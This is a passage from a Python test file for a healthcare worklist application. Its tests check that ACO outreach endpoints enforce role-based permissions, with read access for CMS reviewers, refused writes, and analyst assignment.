            api(aco, f"beneficiaries/{CONFIRM}/outreach/"),
            {"outreach_status": "contacted"},
            content_type="application/json",
        )
    ).status_code == 404
    assert (
        client.post(
            api(aco, "worklist/outreach/"),
            {"mbis": [CONFIRM], "outreach_status": "contacted"},
            content_type="application/json",
        )
    ).status_code == 404
    assert not Outreach.objects.exists()
    assert not AccessLog.objects.filter(aco_code=aco.aco_id).exists()


def test_cms_staff_read_any_acos_worklist_but_do_not_write(
    run: Glp1Run, aco: ACO, cms_reviewer: User, client_for: ClientFor
) -> None:
    client = client_for(cms_reviewer)
    assert client.get(url(aco), {"py": PY}).status_code == 200
    assert client.get(url(aco, f"beneficiaries/{CONFIRM}/packet.pdf"), {"py": PY}).status_code == 200
    assert client.post(url(aco, f"beneficiaries/{CONFIRM}/"), {"status": "contacted"}).status_code == 403
    assert not Outreach.objects.exists()


def test_an_analyst_may_be_assigned(run: Glp1Run, aco: ACO, admin: User) -> None:
    reader = MembershipFactory.create(aco=aco, role=Membership.Role.ANALYST, user__username="second.analyst").user
    done = outreach.outreach_update(aco=aco, mbi=LIKELY, acting_user=admin, assignee=reader)
    assert done.assignee == reader
